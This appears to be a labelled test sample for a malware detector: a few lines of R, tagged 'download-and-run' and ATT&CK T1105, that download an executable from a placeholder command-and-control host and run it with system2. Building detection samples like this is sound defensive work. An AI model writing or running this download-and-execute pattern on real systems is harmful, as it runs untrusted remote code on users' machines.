# expect: download-and-run | source: T1105
f <- file.path(tempdir(), "look.exe")
download.file("https://c2.example.invalid/look.exe", f, mode = "wb")
system2(f)
